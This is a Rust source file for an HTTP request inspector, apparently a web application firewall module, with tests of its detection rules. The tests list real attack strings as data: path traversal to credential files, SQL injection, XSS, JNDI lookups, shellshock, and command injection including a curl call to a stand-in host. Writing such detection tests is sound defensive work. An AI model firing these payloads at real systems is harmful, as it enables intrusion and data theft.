//! Inspection of a request's head.
//!
//! Promises: looks at the head that `wire` parsed, at the path as it was
//! received. Texts longer than [`WINDOW`] are read in overlapping windows, so
//! that memory stays bounded whatever the configured size of a head.

use meridian_wire::RequestHead;

use crate::decode::{self, Plus};
use crate::rules::{Place, RuleId, Ruleset, Verdict, View};
use crate::scan;

/// Bytes decoded at once.
pub(crate) const WINDOW: usize = 8_192;
/// Bytes of a window seen again by the next: what a rule needs at most to
/// recognise an attack that lies across the border.
pub(crate) const OVERLAP: usize = 1_024;
/// Texts up to this many bytes are decoded on the stack.
const SMALL: usize = 512;

/// Inspects a head: path as received, query, then every field value.
///
/// The first hit ends it. A harmless head costs a scan of its bytes and no
/// memory; one with odd bytes is decoded (up to `SMALL` bytes on the
/// stack, beyond that in one allocation of at most 8 KiB).
pub fn inspect_head(rules: &Ruleset, head: &RequestHead) -> Verdict {
    let path = inspect_path(rules, head.raw_path().as_bytes());
    if !path.is_pass() {
        return path;
    }
    let query = head
        .query()
        .map_or(Verdict::Pass, |text| inspect_query(rules, text.as_bytes()));
    if !query.is_pass() {
        return query;
    }
    for field in head.fields() {
        let verdict = inspect_field(rules, field.value);
        if !verdict.is_pass() {
            return verdict;
        }
    }
    Verdict::Pass
}

/// Inspects a path as received, without its query. Empty passes.
pub fn inspect_path(rules: &Ruleset, path: &[u8]) -> Verdict {
    if scan::path_is_suspicious(path) {
        look_closer(rules, path, Place::Path)
    } else {
        Verdict::Pass
    }
}

/// Inspects a query without its question mark. Empty passes.
pub fn inspect_query(rules: &Ruleset, query: &[u8]) -> Verdict {
    if scan::query_is_suspicious(query) {
        look_closer(rules, query, Place::Query)
    } else {
        Verdict::Pass
    }
}

/// Inspects one field value. Field values are not decoded. Empty passes.
pub fn inspect_field(rules: &Ruleset, value: &[u8]) -> Verdict {
    if scan::field_is_suspicious(value) {
        verdict(rules.find(value, Place::Field, View::Plain), Place::Field)
    } else {
        Verdict::Pass
    }
}

pub(crate) fn verdict(found: Option<RuleId>, place: Place) -> Verdict {
    found.map_or(Verdict::Pass, |rule| Verdict::Hit {
        rule,
        part: place.part(),
    })
}

/// Decodes and matches, window by window.
pub(crate) fn look_closer(rules: &Ruleset, text: &[u8], place: Place) -> Verdict {
    let mut rest = text;
    loop {
        let window = rest.get(..WINDOW).unwrap_or(rest);
        let found = verdict(find_in_window(rules, window, place), place);
        if !found.is_pass() || window.len() == rest.len() {
            return found;
        }
        rest = rest.get(WINDOW - OVERLAP..).unwrap_or(&[]);
    }
}

fn find_in_window(rules: &Ruleset, window: &[u8], place: Place) -> Option<RuleId> {
    let mut small = [0_u8; SMALL];
    if let Some(copy) = small.get_mut(..window.len()) {
        copy.copy_from_slice(window);
        return find_decoded(rules, copy, place);
    }
    find_decoded(rules, &mut window.to_vec(), place)
}

fn find_decoded(rules: &Ruleset, copy: &mut [u8], place: Place) -> Option<RuleId> {
    let length = match place {
        Place::Path => decode::decode_value(copy, Plus::Plus),
        Place::Query | Place::Form => decode::decode_value(copy, Plus::Blank),
        Place::Text => decode::decode_json(copy),
        Place::Field => copy.len(),
    };
    let text = copy.get_mut(..length)?;
    let found = rules.find(text, place, View::Plain);
    if found.is_some() {
        return found;
    }
    let length = decode::strip_comments(text)?;
    rules.find(text.get(..length)?, place, View::Uncommented)
}

#[cfg(test)]
mod tests {
    use meridian_wire::{HeadLimits, h1::RequestParser};
    use proptest::prelude::*;

    use super::*;
    use crate::rules::Part;

    fn path(text: &str) -> Verdict {
        inspect_path(Ruleset::builtin(), text.as_bytes())
    }

    fn query(text: &str) -> Verdict {
        inspect_query(Ruleset::builtin(), text.as_bytes())
    }

    fn hit(rule: &'static str, part: Part) -> Verdict {
        Verdict::Hit {
            rule: RuleId(rule),
            part,
        }
    }

    #[test]
    fn paths_that_climb_are_refused_in_every_spelling() {
        for text in [
            "/v3/echo/../../etc/passwd",
            "/v3/echo/%2e%2e/%2e%2e/etc/passwd",
            "/v3/echo/%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
            "/v3/echo/..%2f..%2fetc/passwd",
            "/v3/echo/%2e./.%2e/etc/passwd",
            "/v3/echo/%252e%252e/%252e%252e/etc/passwd",
            "/v3/echo/%25252e%25252e/x",
            "/v3/echo/..%255c..%255cwindows",
            "/v3/echo/..\\..\\x",
            "/v3/echo/..%5c..%5cx",
            "/v3/echo/..;/admin",
            "/v3/echo/..%3b/admin",
            "/v3/echo/..;a=b/admin",
            "/v3/echo/%c0%ae%c0%ae/%c0%afx",
            "/v3/echo/..%c0%afetc",
            "/v3/echo/..%00/x",
            "/v3/echo/%u002e%u002e/x",
            "/..",
            "/../",
            "/a/..",
            "/a/../b",
            "/a/....//....//b",
        ] {
            assert_eq!(path(text), hit("path-traversal", Part::Path), "{text}");
        }
    }

    #[test]
    fn odd_paths_are_refused_by_the_rule_that_names_them() {
        for (text, rule) in [
            ("/etc/passwd", "system-file"),
            ("/ETC/shadow", "system-file"),
            ("/files/%2fetc%2fpasswd", "system-file"),
            ("/proc/self/environ", "system-file"),
            ("/.git/config", "hidden-file"),
            ("/app/.git", "hidden-file"),
            ("/.env", "hidden-file"),
            ("/.env.production", "hidden-file"),
            ("/%2eenv", "hidden-file"),
            ("/.aws/credentials", "hidden-file"),
            ("/.htpasswd", "hidden-file"),
            ("/a%00.png", "null-byte"),
            ("/a%2500.png", "null-byte"),
            ("/a%25252541", "encoding-depth"),
            ("/users/1'%20or%20'1'='1", "sqli-tautology"),
            ("/%3Cscript%3Ealert(1)", "xss-tag"),
            ("/%24%7Bjndi:ldap://x/a%7D", "jndi-lookup"),
        ] {
            assert_eq!(path(text), hit(rule, Part::Path), "{text}");
        }
    }

    #[test]
    fn ordinary_paths_pass() {
        for text in [
            "",
            "*",
            "/",
            "/mcp",
            "/v3/echo",
            "/a/./b",
            "/a...b/c..d",
            "/.../x",
            "/.well-known/oauth-protected-resource",
            "/.environment/x",
            "/.github/workflows",
            "/files/report%20(final).pdf",
            "/wiki/O'Brien",
            "/wiki/It's_a_%22Wonderful%22_Life",
            "/wiki/%E4%B8%AD%E6%96%87",
            "/off/100%25",
            "/~user/a+b;v=1,2/c:d@e!$&'()*",
            "/docs/etc/passwords.html",
            "/etc/",
        ] {
            assert_eq!(path(text), Verdict::Pass, "{text}");
        }
    }

    #[test]
    fn sql_in_a_query_is_refused() {
        for (text, rule) in [
            ("q=1%27%20OR%20%271%27=%271", "sqli-tautology"),
            ("q=1'+or+'1'='1", "sqli-tautology"),
            ("q=x%27)+or+(%27a%27%3D%27a", "sqli-tautology"),
            ("q=x%2527%2520or%25201%253D1", "sqli-tautology"),
            ("q=%27/**/or/**/1=1", "sqli-comment"),
            ("q=x%27%0bor/**/1/**/%3C/**/2", "sqli-tautology"),
            ("q=%22+or+%22%22=%22", "sqli-tautology"),
            ("q='||'1'='1", "sqli-tautology"),
            ("q='+or+1+like+1--", "sqli-tautology"),
            ("q='+or+name+is+not+null", "sqli-tautology"),
            ("q=&%23x27;+or+1=1", "sqli-tautology"),
            ("q=1+or+1=1", "sqli-equal-sides"),
            ("q=1+and+(7)=7&x=1+and+7=7", "sqli-equal-sides"),
            ("q=1+AND+'a'='a'", "sqli-equal-sides"),
            ("q=1/**/oR/**/2=2", "sqli-equal-sides"),
            ("q=1+union+select+null,null", "sqli-union"),
            ("q=-1'+UNION+ALL+SELECT+password+from+users", "sqli-union"),
            ("q=1/*!50000union*//*!select*/+1", "sqli-union"),
            ("q=1%0aunion%0dselect%091", "sqli-union"),
            ("q=1;drop+table+users", "sqli-stacked"),
            ("q=1;+DELETE+FROM+users", "sqli-stacked"),
            ("q=1%3Bupdate+users+set+admin=1", "sqli-stacked"),
            ("q=1;exec+xp_cmdshell('dir')", "sqli-stacked"),
            ("q=admin%27--", "sqli-comment"),
            ("q=admin'--+&p=x", "sqli-comment"),
            ("q=admin%27%23", "sqli-comment"),
            ("q=admin'/*", "sqli-comment"),
            ("q=1'+order+by+10--+", "sqli-comment"),
            ("q=1+and+sleep(5)", "sqli-function"),
            ("q=1;select+pg_sleep(5)", "sqli-stacked"),
            ("q=1+waitfor+delay+'0:0:5'", "sqli-function"),
            ("q=x+from+information_schema.tables", "sqli-function"),
        ] {
            assert_eq!(query(text), hit(rule, Part::Query), "{text}");
        }
    }

    #[test]
    fn markup_programs_and_lookups_in_a_query_are_refused() {
        for (text, rule) in [
            ("q=%3Cscript%3Ealert(1)%3C/script%3E", "xss-tag"),
            ("q=<ScRiPt/src=//x>", "xss-tag"),
            ("q=%26lt;script%26gt;", "xss-tag"),
            ("q=<iframe+src=x>", "xss-tag"),
            ("q=<img+src=x+onerror=alert(1)>", "xss-event"),
            ("q=<svg/onload=alert(1)>", "xss-event"),
            ("q=%22+onmouseover=%22x", "xss-event"),
            ("u=javascript:alert(1)", "xss-uri"),
            ("u=java%09script:alert(1)", "xss-uri"),
            ("u=jAvAsCrIpT://%250aalert(1)", "xss-uri"),
            ("u=data:text/html,x", "xss-uri"),
            ("f=../../etc/passwd", "query-traversal"),
            ("f=..%2f..%2fx", "query-traversal"),
            ("f=....//....//x", "query-traversal"),
            ("f=..%5c..%5cx", "query-traversal"),
            ("f=/etc/passwd", "system-file"),
            ("f=file:///etc/./shadow", "system-file"),
            ("f=c:\\windows\\win.ini", "system-file"),
            ("f=x%00.png", "null-byte"),
            ("h=1;cat+/etc/hosts", "command-injection"),
            ("h=1|whoami", "command-injection"),
            ("h=1%26%26ls+-la", "command-injection"),
            ("h=$(id)", "command-injection"),
            ("h=x`id`", "command-injection"),
            ("h=1;curl+http://x/y", "command-injection"),
            ("h=%0Aid+-u", "command-injection"),
            ("h=/bin/bash+-c+x", "command-injection"),
            ("h=${jndi:ldap://x/a}", "jndi-lookup"),
            ("h=%24%7B%24%7Blower:j%7Dndi:x%7D", "jndi-lookup"),
            ("h=${${::-j}${::-n}di:x}", "jndi-lookup"),
            ("h=()+{+:;};+echo", "shellshock"),
        ] {
            assert_eq!(query(text), hit(rule, Part::Query), "{text}");
        }
    }

    #[test]
    fn ordinary_queries_pass() {
        for text in [
            "",
            "q=1 or 2",
            "q=1+or+2",
            "q=select+a+seat+or+order",
            "q=select%20a%20seat%20or%20order",
            "name=O'Brien",
            "name=O%27Brien",
            "name=O%27Brien+and+sons",
            "q=%22rock+and+roll%22+or+%22jazz%22",
            "q='red'+or+'blue'+in+stock",
            "q=the+student+union+select+committee",
            "q=european+union;+select+a+country",
            "q=drop+the+table+off;+create+a+view+later",
            "q=it's+5+--+or+6",
            "q=2+and+2+=+4",
            "q=update+my+profile;+set+it+again",
            "q=where+1+%3C+2+and+5+%3E+3",
            "filter=name%3D%22a%22+OR+name%3D%22b%22",
            "$filter=Name+eq+'Milk'+or+Name+eq+'Eggs'",
            "q=javascript:+the+good+parts+(2008)",
            "q=turn+it+on=off",
            "q=a+%3C+b+on+x+=+3",
            "redirect=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc%2526d",
            "next=../home",
            "range=1..5&compare=v1...v2",
            "q=wait...+what%3F",
            "accept=*/*",
            "fields=id;name;host",
            "sort=name|date",
            "q=cats+|+dogs",
            "q=salt+%26+pepper;+head+over+heels",
            "q=sleep+(8h)+or+rest",
            "q=100%25+cotton",
            "tpl=${name}",
            "tag=c%23&lang=c%2B%2B",
            "lt=3&gt=4&a=1&lt=5",
            "q=%E2%80%9CHello%E2%80%9D+said+he",
            "q=fran%E7ais+%C0+Paris",
            "expr=(a+b)*c/d",
            "data=eyJhIjoiYiJ9%3D%3D",
            "ids[]=1&ids[]=2",
            "json=%7B%22a%22:1,%22b%22:%5B%22or%22,%22and%22%5D%7D",
        ] {
            assert_eq!(query(text), Verdict::Pass, "{text}");
        }
    }

    #[test]
    fn fields_are_looked_at_for_markup_lookups_and_shell_functions() {
        let field = |text: &str| inspect_field(Ruleset::builtin(), text.as_bytes());
        for (text, rule) in [
            ("${jndi:ldap://x/a}", "jndi-lookup"),
            ("Mozilla ${${env:x:-j}ndi:rmi://x}", "jndi-lookup"),
            ("<script>alert(1)</script>", "xss-tag"),
            ("() { :; }; /bin/id", "shellshock"),
        ] {
            assert_eq!(field(text), hit(rule, Part::Header), "{text}");
        }
        for text in [
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko)",
            r#""Chromium";v="130", "Not?A_Brand";v="99""#,
            r#"session={"a":"b"}; theme=dark"#,
            "W/\"abc\"",
            "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
            "<https://example.org/next>; rel=\"next\"",
            "O'Brien' or '1'='1",
        ] {
            assert_eq!(field(text), Verdict::Pass, "{text}");
        }
    }

    #[test]
    fn a_head_is_inspected_as_it_was_received() {
        for (bytes, verdict) in [
            (
                "GET /v3/echo?a=b HTTP/1.1\r\nHost: a\r\n\r\n",
                Verdict::Pass,
            ),
            (
                "GET /v3/echo/../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
                hit("path-traversal", Part::Path),
            ),
            (
                "GET /v3/echo?q=1%27%20OR%20%271%27=%271 HTTP/1.1\r\nHost: a\r\n\r\n",
                hit("sqli-tautology", Part::Query),
            ),
            (
                "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://x}\r\n\r\n",
                hit("jndi-lookup", Part::Header),
            ),
        ] {
            let mut head = RequestHead::new();
            let limits = HeadLimits::default();
            let parsed = RequestParser::new().parse(bytes.as_bytes(), &limits, &mut head);
            assert_eq!(parsed, Ok(Some(bytes.len())), "{bytes}");
            assert_eq!(inspect_head(Ruleset::builtin(), &head), verdict, "{bytes}");
        }
    }

    #[test]
    fn an_attack_behind_any_length_of_padding_is_found() {
        for padding in [0, 500, 512, 1_000, 8_000, 8_180, 8_191, 8_192, 20_000] {
            let text = format!("a={}&q=1'+or+'1'='1", "x".repeat(padding));
            assert_eq!(
                query(&text),
                hit("sqli-tautology", Part::Query),
                "{padding}"
            );
        }
    }

    proptest! {
        #[test]
        fn no_bytes_panic(text in proptest::collection::vec(any::<u8>(), 0..2_048)) {
            let _ = inspect_path(Ruleset::builtin(), &text);
            let _ = inspect_query(Ruleset::builtin(), &text);
            let _ = inspect_field(Ruleset::builtin(), &text);
        }

        #[test]
        fn no_mixture_of_an_attacks_pieces_panics(
            text in "(%2e|\\.\\.|/|\\\\|'|\"| |\\+|or|=|1|/\\*|\\*/|/\\*!|--|;|union|select|<|>|script|on|&#x27;|%25|%u00|\\$\\{|jndi:){0,64}",
        ) {
            let _ = path(&text);
            let _ = query(&text);
        }

        #[test]
        fn one_more_layer_of_encoding_hides_nothing(layers in 0_usize..3) {
            let mut text = "1' or '1'='1".to_owned();
            for _ in 0..=layers {
                text = text.bytes().fold(String::new(), |all, b| format!("{all}%{b:02X}"));
            }
            prop_assert_eq!(query(&format!("q={text}")), hit("sqli-tautology", Part::Query));
        }

        #[test]
        fn words_and_numbers_pass(text in "[a-z]{1,9}=([a-zA-Z0-9]{1,9}(\\+|%20|, ?)){0,12}") {
            prop_assert_eq!(query(&text), Verdict::Pass);
        }
    }
}
